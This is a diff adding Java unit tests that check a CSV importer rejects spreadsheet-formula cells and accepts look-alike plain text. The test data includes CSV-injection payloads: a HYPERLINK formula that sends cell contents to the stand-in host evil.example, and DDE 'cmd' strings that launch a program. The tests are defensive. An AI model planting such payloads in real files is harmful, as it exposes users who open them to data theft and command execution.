@@ -3,6 +3,7 @@ package io.greenroom.catalog.exchange;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.catchThrowableOfType;
 
+import io.greenroom.platform.problem.Problem.FieldError;
 import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
@@ -10,6 +11,8 @@ import java.io.InputStream;
 import java.nio.charset.Charset;
 import java.nio.charset.StandardCharsets;
 import java.util.Arrays;
+import java.util.List;
+import java.util.Objects;
 import java.util.zip.GZIPOutputStream;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipOutputStream;
@@ -292,6 +295,47 @@ class HostileFilesTest {
         var disarmed = CsvCodec.disarmed(cell);
         assertThat(CsvCodec.armed(disarmed)).isEqualTo(cell);
         assertThat(disarmed).doesNotMatch("(?s)[=+\\-@\\t\\r\\n＝＋－＠].*");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
+                "\t=1+1",
+                "＝1+1",
+                "@SUM(A1:A9)",
+                "-2+3+cmd|' /C calc'!A0",
+                "+cmd|' /C calc'!A0"
+            })
+    void refusesAFormulaInACell(String cell) throws IOException {
+        assertThat(errorsOf(cell))
+                .singleElement()
+                .extracting(FieldError::detail)
+                .asString()
+                .startsWith("The column \"prompt\" has a formula.");
+        assertThat(errorsOf(CsvCodec.disarmed(cell))).as("as an export writes it").isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "- a list\n- of two",
+                "-log(p) of the right token",
+                "+1 for naming the bound",
+                "@greenroom says so",
+                "a == b | c != d",
+                "- a || b\n- c != d",
+                "'=1+1"
+            })
+    void takesATextForAText(String cell) throws IOException {
+        assertThat(errorsOf(cell)).isEmpty();
+    }
+
+    private static List<FieldError> errorsOf(String cell) throws IOException {
+        var csv = "title,prompt\nA title,\"" + cell.replace("\"", "\"\"") + "\"\n";
+        try (var reading = Codecs.of(Format.CSV).read(new ByteArrayInputStream(bytes(csv)))) {
+            return Objects.requireNonNull(reading.next()).errors();
+        }
     }
 
     private static byte[] zip(String name, byte[] content) throws IOException {
